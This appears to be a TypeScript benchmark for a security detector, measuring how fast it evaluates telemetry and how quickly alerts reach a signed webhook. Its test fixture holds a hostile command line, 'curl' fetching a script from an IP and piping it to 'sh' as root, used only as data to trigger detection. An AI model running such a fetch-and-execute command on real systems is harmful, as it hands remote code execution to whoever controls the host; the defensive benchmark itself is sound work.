/**
 * The detector on a real stream (part of `npm run bench -- detect`):
 * - telemetry items/s evaluated against the built-in pack by the detector reading TELEMETRY through
 *   its durable consumer (alerts written, batches acked), beside a raw ordered read of the same
 *   stream in the same run — the goal is ≥ 0.5;
 * - notification latency from alert to receiver through the outbox: a matching item for a new
 *   host raises an alert, the outbox queues and posts a signed webhook to a loopback receiver;
 *   p50/p99 of (receiver has it − alert stored), one alert at a time so no queueing is measured.
 */
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { channelsDecider } from '../commands/notify/decider.ts';
import { CHANNELS_ID } from '../commands/notify/events.ts';
import { ALERT } from '../commands/alerts/events.ts';
import type { DetectItem } from '../src/detect/records.ts';
import { loadPack } from '../src/detect/pack.ts';
import { Detector } from '../src/detect/workers.ts';
import { execute } from '../src/domain/execute.ts';
import { newId } from '../src/ids.ts';
import { EventLog, partitionOf, tenantFilter } from '../src/log/mod.ts';
import { createLogger } from '../src/logger.ts';
import { canonicalJson } from '../src/merkle/canonical-json.ts';
import { connectNats } from '../src/nats/connect.ts';
import { openInstallBox } from '../src/notify/install-box.ts';
import { parseChannelInput, sealChannel } from '../src/notify/mod.ts';
import { TELEMETRY_STREAM, telemetryPartitionFilter, telemetryStreamSpec, telemetrySubject } from '../src/telemetry/stream.ts';
import { ADMIN, createTenant, enrollAgent } from '../test/helpers/events.ts';
import { natsFixture, percentile, report } from './util.ts';

const AGENTS = 8;
const ROUNDS = 3;
const LATENCY_N = 200;
const WARMUP = 10;

function median(xs: number[]): number {
  return [...xs].sort((a, b) => a - b)[Math.floor(xs.length / 2)]!;
}

/** Throughput of the detector on TELEMETRY vs a raw ordered read, then the outbox latency. */
export async function benchDetector(items: (n: number) => DetectItem[], n: number): Promise<void> {
  const nats = await natsFixture();
  const nc = await connectNats({ servers: nats.url, noAsyncTraces: true } as never);
  const log = await EventLog.connect(nc);
  const logger = createLogger({ level: 'warn' });
  const pack = await loadPack();
  const box = await openInstallBox(log.streams);
  try {
    await log.streams.ensureStream(telemetryStreamSpec());
    const tenant = 'bench-detect';
    await createTenant(log, tenant, ['edr', 'identity']);
    const agents: string[] = [];
    for (let i = 0; i < AGENTS; i++) agents.push((await enrollAgent(log, tenant, `bench-${i}`)).agentId);
    const p = partitionOf(tenant);

    const raw: number[] = [];
    const ours: number[] = [];
    let matches = 0;
    for (let round = 0; round < ROUNDS; round++) {
      // Each round on items of its own: the detector reads them once, from its consumer's place.
      const data = items(n);
      const t0 = performance.now();
      const pending: Promise<unknown>[] = [];
      let last = 0;
      for (const [i, item] of data.entries()) {
        const agentId = agents[i % AGENTS]!;
        pending.push(
          log.streams.publish(telemetrySubject(tenant, agentId), canonicalJson(item), { msgId: `${agentId}.r${round}.${i}` }).then((a) => {
            last = Math.max(last, a.seq);
          }),
        );
        if (pending.length >= 1000) await Promise.all(pending.splice(0));
      }
      await Promise.all(pending);
      const published = performance.now() - t0;
      const first = last - n + 1;

      const r0 = performance.now();
      let bytes = 0;
      const read = await log.streams.scanEach(TELEMETRY_STREAM, { filter: telemetryPartitionFilter(p), fromSeq: first }, (m) => {
        bytes += m.data.length;
      });
      raw.push(read / ((performance.now() - r0) / 1000));

      const detector = await Detector.start({
        log,
        streams: log.streams,
        pack,
        box,
        transport: { dashboardBaseUrl: 'https://stockade.example.com', network: { allowLoopback: true } },
        logger,
        tickMs: 0,
        workerId: 'bench-detector',
      });
      const w = detector.worker(p)!;
      await w.waitTelemetry(last);
      ours.push(w.counters.items / ((w.telemetryTiming.lastFlushMs - w.telemetryTiming.firstItemMs) / 1000));
      matches = w.counters.matches;
      await detector.close();
      if (round === 0)
        console.log(
          `  ${n} items per round (~${Math.round(bytes / read)} bytes), published in ${Math.round(published)} ms; ${matches} matches; median of ${ROUNDS} rounds`,
        );
    }
    const rawRate = median(raw);
    report('raw ordered read of the partition (reference)', rawRate, 'items/s');
    report('detector: durable consumer, pack evaluated, alerts written', median(ours), 'items/s', { label: 'raw read', value: rawRate, goal: 0.5 });

    await outboxLatency(log, tenant, pack, box);
  } finally {
    log.close();
    await nc.close();
    await nats.stop();
  }
}

/** Resolves values by key as they arrive, whichever comes first: the value or the wait. */
class Arrivals<T> {
  readonly #seen = new Map<string, T>();
  readonly #waiting = new Map<string, (v: T) => void>();
  put(key: string, v: T): void {
    const w = this.#waiting.get(key);
    if (w) {
      this.#waiting.delete(key);
      w(v);
    } else this.#seen.set(key, v);
  }
  get(key: string): Promise<T> {
    const v = this.#seen.get(key);
    if (v !== undefined) {
      this.#seen.delete(key);
      return Promise.resolve(v);
    }
    return new Promise((resolve) => this.#waiting.set(key, resolve));
  }
}

async function outboxLatency(log: EventLog, tenant: string, pack: Awaited<ReturnType<typeof loadPack>>, box: Awaited<ReturnType<typeof openInstallBox>>) {
  // Arrivals at the receiver by the host the alert is about (each round uses a new host).
  const received = new Arrivals<{ alertId: string; t: number }>();
  const server = createServer((req, res) => {
    const chunks: Buffer[] = [];
    req.on('data', (c: Buffer) => chunks.push(c));
    req.on('end', () => {
      const t = wallMs();
      const body = JSON.parse(Buffer.concat(chunks).toString('utf8')) as { alert: { id: string; host: string } };
      res.writeHead(204).end();
      received.put(body.alert.host, { alertId: body.alert.id, t });
    });
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', () => r()));
  const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}/hook`;
  const { channel } = parseChannelInput(
    {
      kind: 'webhook',
      name: 'bench',
      settings: { url, secret: 'stk_whsec_bench-secret-0123456789abcdef0123' },
      routing: { minSeverity: 'low', thresholds: [1] },
    },
    { allowLoopbackHttp: true },
  );
  await execute(
    log,
    { tenant, id: CHANNELS_ID },
    channelsDecider,
    { kind: 'save', channel: sealChannel(box, tenant, newId(), channel), create: true },
    { actor: ADMIN },
  );
  const detector = await Detector.start({
    log,
    streams: log.streams,
    pack,
    box,
    transport: { dashboardBaseUrl: 'https://stockade.example.com', network: { allowLoopback: true } },
    logger: createLogger({ level: 'warn' }),
    tickMs: 0,
    workerId: 'bench-outbox',
  });
  // When each alert was stored: the server's time of the EVENTS record that raised it.
  const stored = new Arrivals<number>();
  const sub = log.subscribe({ filter: tenantFilter(tenant), after: await log.lastPosition() });
  void (async () => {
    for await (const r of sub) if (r.aggregate.type === ALERT && r.version === 1) stored.put(r.aggregate.id, r.storedAt.getTime());
  })();
  const fromAlert: number[] = [];
  const fromItem: number[] = [];
  try {
    for (let i = 0; i < WARMUP + LATENCY_N; i++) {
      const host = `lat-${i}`;
      const { agentId } = await enrollAgent(log, tenant, host);
      await detector.worker(partitionOf(tenant))!.waitEvents(await log.lastPosition());
      const t0 = wallMs();
      await log.streams.publish(telemetrySubject(tenant, agentId), canonicalJson(matching(i)), { msgId: `lat-${i}` });
      const got = await received.get(host);
      const alertAt = await stored.get(got.alertId);
      if (i < WARMUP) continue;
      fromAlert.push(got.t - alertAt);
      fromItem.push(got.t - t0);
    }
  } finally {
    await sub.stop();
    await detector.close();
    server.close();
  }
  console.log(`  notification latency, ${LATENCY_N} alerts one at a time, signed webhook to a loopback receiver (ms, wall clock):`);
  report('alert stored → receiver has it, p50', percentile(fromAlert, 50), 'ms');
  report('alert stored → receiver has it, p99', percentile(fromAlert, 99), 'ms');
  report('item published → receiver has it, p50 (detection included)', percentile(fromItem, 50), 'ms');
  report('item published → receiver has it, p99', percentile(fromItem, 99), 'ms');
}

/** Wall-clock time with sub-millisecond resolution (the stored time of a record has whole milliseconds). */
const wallMs = (): number => performance.timeOrigin + performance.now();

function matching(i: number): DetectItem {
  return {
    kind: 'process',
    pid: 10_000 + i,
    ppid: 1,
    uid: 0,
    user: 'root',
    exe: '/usr/bin/bash',
    name: 'bash',
    sha256: null,
    cmdline: 'bash -c curl -s http://203.0.113.9/x | sh',
    cmdlineTruncated: false,
    startedAt: '2026-11-30T10:00:00.000Z',
    cwd: '/',
    parentExe: '/usr/sbin/cron',
    parentName: 'cron',
    parentCmdline: 'cron',
  };
}
